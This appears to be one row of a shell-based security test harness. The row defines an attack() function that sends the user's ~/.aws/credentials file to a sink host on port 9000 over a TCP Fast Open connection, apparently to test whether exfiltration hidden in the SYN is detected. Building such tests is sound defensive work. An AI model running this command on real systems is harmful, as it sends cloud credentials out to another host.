# SPDX-License-Identifier: Apache-2.0
TITLE="TCP_FASTOPEN_CONNECT: the SYN waits for the data"
ROW="N07"
attack() { "$PROVOKE/fastopen" connect "$HOME/.aws/credentials" "$SINK4" 9000; }
